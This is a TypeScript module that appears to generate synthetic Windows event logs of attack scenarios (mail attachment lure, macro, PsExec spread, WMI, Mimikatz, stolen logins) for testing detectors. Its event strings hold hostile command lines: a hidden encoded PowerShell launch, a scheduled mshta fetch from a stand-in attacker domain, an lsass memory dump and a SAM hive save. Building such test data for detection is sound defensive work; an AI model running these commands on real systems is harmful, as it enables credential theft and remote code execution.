/** What an attack leaves in computers' own events: what was opened and ran, what stays, what is stolen, and how it goes on to others. */
import type { Pc } from '../organisation.ts'
import type { Random } from '../random.ts'
import { type ComputerEvent, defended, runKey, saved, serviceInstalled, signedIn, started } from './computer-event.ts'
import { base64, EXPLORER, homeOf, OFFICE, POWERSHELL, SERVERS, SYSTEM, userOf } from './computer-life.ts'

const HOUR = 3600

interface Scene {
  victim: Pc
  people: Pc[]
  start: number
  random: Random
}

export interface ComputerPlay {
  /** detectors that must speak of the victim's computer */
  expected: string[]
  verdict: 'infected' | 'suspected'
  play(scene: Scene): Generator<ComputerEvent>
}

/** A program with a document's name, out of a ZIP that came by mail; it sets itself to start again. */
function* openedAttachment({ victim: pc, start, random }: Scene): Generator<ComputerEvent> {
  const [user, home] = [userOf(pc), homeOf(pc)]
  const word = random.pick(['議事次第', '御見積', '履歴書', '開催案内'])
  const inside = `${home}AppData\\Local\\Temp\\7zO4${random.whole(1000, 9999)}\\${word}.${random.pick(['pdf', 'docx', 'xlsx'])}.exe`
  yield saved(start, pc.name, user, `${OFFICE}OUTLOOK.EXE`, `${home}Downloads\\${word}.zip`)
  yield started(start + 40, pc.name, user, inside, inside, 'C:\\Program Files\\7-Zip\\7zFM.exe')
  yield started(
    start + 44,
    pc.name,
    user,
    `${SYSTEM}rundll32.exe`,
    `rundll32.exe ${home}AppData\\Local\\Temp\\${random.pick(['a', 'up', 'msc'])}.dat,Start`,
    inside,
  )
  yield runKey(start + 50, pc.name, user, 'Updater', `C:\\Users\\Public\\${random.pick(['upd', 'msdrv', 'svc'])}.exe`)
}

/** A macro, by way of the command prompt. */
function* macro({ victim: pc, start, random }: Scene): Generator<ComputerEvent> {
  const user = userOf(pc)
  yield started(
    start,
    pc.name,
    user,
    `${OFFICE}WINWORD.EXE`,
    `"WINWORD.EXE" /n "${homeOf(pc)}Downloads\\アンケート.docm"`,
    `${OFFICE}OUTLOOK.EXE`,
  )
  yield started(
    start + 8,
    pc.name,
    user,
    `${SYSTEM}cmd.exe`,
    `cmd.exe /c powershell -nop -w hidden -e ${base64(random)}`,
    `${OFFICE}WINWORD.EXE`,
  )
  yield started(
    start + 20,
    pc.name,
    user,
    `${SYSTEM}schtasks.exe`,
    `schtasks /create /sc minute /mo 30 /tn Check /tr "mshta https://cdn.${user}-news.net/a.hta"`,
    POWERSHELL,
  )
}

/** Credentials are taken, and services with random names installed on servers and PCs. */
function* psexec({ victim: pc, people, start, random }: Scene): Generator<ComputerEvent> {
  yield started(
    start,
    pc.name,
    'kanri2',
    `${homeOf(pc)}Downloads\\p.exe`,
    'p.exe -accepteula -ma lsass.exe C:\\Users\\Public\\l.dmp',
    `${SYSTEM}cmd.exe`,
  )
  yield started(
    start + 60,
    pc.name,
    'kanri2',
    `${SYSTEM}reg.exe`,
    'reg save HKLM\\SAM C:\\Users\\Public\\s',
    `${SYSTEM}cmd.exe`,
  )
  const word = (length: number) => Array.from({ length }, () => random.pick([...'abcdefghijklmnopqrstuvwxyz'])).join('')
  const targets = [
    ...SERVERS.slice(0, 3),
    ...people
      .filter((one) => one !== pc)
      .slice(0, 4)
      .map((one) => one.name),
  ]
  for (const [i, target] of targets.entries()) {
    yield* signedIn(start + 900 + i * 90, target, 'kanri2', pc, true)
    yield serviceInstalled(start + 901 + i * 90, target, word(4), `%systemroot%\\${word(8)}.exe`)
  }
}

/** By WMI, with the output on a share. */
function* wmi({ victim: pc, people, start, random }: Scene): Generator<ComputerEvent> {
  const from = people[(people.indexOf(pc) + 3) % people.length] as Pc
  yield* signedIn(start, pc.name, 'kanri2', from, true)
  for (const [i, command] of ['whoami', 'net group "Domain Admins" /domain', 'ipconfig /all'].entries())
    yield started(
      start + 2 + i * 30,
      pc.name,
      'kanri2',
      `${SYSTEM}cmd.exe`,
      `cmd.exe /Q /c ${command} 1> \\\\127.0.0.1\\ADMIN$\\__${random.whole(1e9, 2e9)}.${i} 2>&1`,
      `${SYSTEM}wbem\\WmiPrvSE.exe`,
    )
}

/** The antivirus finds a tool and leaves it. */
function* left({ victim: pc, start }: Scene): Generator<ComputerEvent> {
  const path = 'C:\\ProgramData\\m.exe'
  yield started(start - 30, pc.name, userOf(pc), `${SYSTEM}cmd.exe`, 'cmd.exe', EXPLORER)
  yield defended(start, pc.name, userOf(pc), 'HackTool:Win64/Mimikatz.C', path, 'Not Applicable')
  yield defended(start + 3, pc.name, userOf(pc), 'HackTool:Win64/Mimikatz.C', path, 'Allow')
}

/** No program of the attacker is logged: only an administrator's and a service's passwords, used from the computer by night. */
function* borrowed({ victim: pc, start, random }: Scene): Generator<ComputerEvent> {
  const midnight = start - ((start + 9 * HOUR) % (24 * HOUR))
  for (const night of [0, 1])
    for (const [i, name] of SERVERS.slice(0, 3).entries()) {
      const time = midnight + night * 24 * HOUR + random.between(22.2, 23.4) * HOUR + i * 200
      yield* signedIn(time, name, night === 0 && i === 0 ? 'svc-shisan' : 'kanri2', pc, true)
    }
}

export const COMPUTER_PLAYS = {
  'opened-attachment': {
    expected: ['suspicious-execution', 'autostart-entry'],
    verdict: 'infected',
    play: openedAttachment,
  },
  macro: { expected: ['suspicious-execution', 'autostart-entry'], verdict: 'infected', play: macro },
  'psexec-spread': { expected: ['credential-theft', 'remote-execution'], verdict: 'infected', play: psexec },
  'wmi-target': { expected: ['remote-execution'], verdict: 'suspected', play: wmi },
  'tool-left': { expected: ['malware-alert'], verdict: 'suspected', play: left },
  'borrowed-computer': { expected: ['borrowed-computer'], verdict: 'suspected', play: borrowed },
} as const satisfies Record<string, ComputerPlay>

export type ComputerBehaviour = keyof typeof COMPUTER_PLAYS
export const COMPUTER_BEHAVIOURS = Object.keys(COMPUTER_PLAYS) as ComputerBehaviour[]
